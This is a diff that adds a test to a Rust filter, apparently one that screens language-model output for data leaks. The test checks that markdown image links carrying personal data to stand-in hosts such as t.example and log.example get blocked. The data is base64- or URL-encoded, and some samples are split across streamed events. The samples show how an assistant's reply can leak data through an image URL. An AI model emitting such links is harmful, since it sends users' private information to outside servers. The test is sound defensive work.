@@ -108,6 +108,23 @@ async fn personal_data_url_encoded_into_an_image_does_not_leave() {
     let r = answer(&p, "", exfil, false).await;
     assert_eq!(r.header("x-menshen-decision"), "block", "{}", r.text());
     assert!(!r.text().contains("4111"), "{}", r.text());
+    // Text in base64 in the path of an image is blocked, whole or streamed.
+    let exfil =
+        "Noted. ![](https://t.example/px/SmFuZSBSb2UgYXNrZWQgYWJvdXQgaGVyIGRpdm9yY2UgbGF3eWVy.gif)";
+    let r = answer(&p, "", exfil, false).await;
+    assert_eq!(r.header("x-menshen-decision"), "block", "{}", r.text());
+    assert!(!r.text().contains("t.example"), "{}", r.text());
+    let pieces = [
+        "Noted. ![](https://t.example/px/SmFuZSBSb2UgYXNrZWQgYWJvd",
+        "XQgaGVyIGRpdm9yY2UgbGF3eWVy.gif) Anything else?",
+    ];
+    let r = answer(&p, "sse-openai", &pieces.join("|"), true).await;
+    assert!(
+        !openai_stream_text(&r.text()).contains("t.example"),
+        "{}",
+        r.text()
+    );
+    assert!(r.text().contains("blocked_by_policy"), "{}", r.text());
     // Streamed, the encoded value split over two events.
     let pieces = [
         "Summary ready. ![](https://log.example/p.png?e=jane.roe%4",
